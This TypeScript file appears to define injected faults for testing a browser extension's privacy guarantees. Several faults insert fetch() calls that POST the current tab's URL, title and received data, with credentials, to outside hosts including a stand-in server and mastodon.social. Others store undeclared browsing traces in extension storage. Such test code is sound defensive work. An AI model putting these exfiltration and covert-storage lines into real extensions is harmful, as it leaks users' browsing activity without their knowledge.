/** Faults in what the background does with what it hears from pages. */
import type { Fault } from './fault.ts';
import { HEARD, OBSERVATIONS } from './faults-in-pages.ts';

const tell = (address: string): string =>
  `${HEARD}    void fetch('${address}', { method: 'POST', credentials: 'include', body: JSON.stringify([sender.tab?.url, sender.tab?.title, value]) }).catch(() => undefined);\n`;

export const HEARD_FAULTS: readonly Fault[] = [
  {
    row: 'session-asks-nobody',
    says: 'The background tells a server of what it has heard.',
    file: OBSERVATIONS,
    from: HEARD,
    to: `${HEARD}    void fetch('https://council.example/heard').catch(() => undefined);\n`,
  },
  {
    row: 'session-asks-nobody',
    says: 'The background tells the server of the pack, by the address of the pack, of what it has heard.',
    file: OBSERVATIONS,
    from: HEARD,
    to: tell('https://packs.council.example/pack.jws'),
  },
  {
    row: 'session-asks-nobody',
    says: 'The background tells a site that somebody is at of what it has heard.',
    file: OBSERVATIONS,
    from: HEARD,
    to: tell('https://mastodon.social/home'),
  },
  {
    row: 'request-tells-nothing',
    says: 'The server of the pack is told, beside the request for it, of what has been heard.',
    file: OBSERVATIONS,
    from: HEARD,
    to: tell('https://packs.council.example/pack.jws'),
  },
  {
    row: 'kept-as-mapped',
    says: 'Something is kept that the data map does not name.',
    file: OBSERVATIONS,
    from: HEARD,
    to: `${HEARD}    void browser.storage.local.set({ heard: Date.now() });\n`,
  },
  {
    row: 'kept-as-mapped',
    says: 'When something was heard is kept under a name that looks like a pack’s.',
    file: OBSERVATIONS,
    from: HEARD,
    to: `${HEARD}    void browser.storage.local.get('pack.heard').then((kept) => browser.storage.local.set({ 'pack.heard': \`\${kept['pack.heard'] ?? ''} \${Date.now()} \${message?.seen?.site}\` }));\n`,
  },
  {
    row: 'kept-as-mapped',
    says: 'What was heard is kept as if it were a setting.',
    file: OBSERVATIONS,
    from: HEARD,
    to: `${HEARD}    void browser.storage.local.set({ choice: { heard: [message?.seen?.site] } });\n`,
  },
  {
    row: 'kept-as-mapped',
    says: 'A list and a counter are kept that are still empty.',
    file: OBSERVATIONS,
    from: HEARD,
    to: `${HEARD}    void browser.storage.local.set({ seen: [], counter: {} });\n`,
  },
  {
    row: 'months-leave-nothing',
    says: 'Of each report a little is kept, and stays.',
    file: OBSERVATIONS,
    from: HEARD,
    to: `${HEARD}    void browser.storage.session.set({ [crypto.randomUUID()]: 1 });\n`,
  },
  {
    row: 'nothing-is-lost',
    says: 'What a worker was ended over is not told again.',
    file: 'extension/page.ts',
    from: '.catch(() => tries && tell(tries - 1))',
    to: '.catch(() => tries)',
  },
];
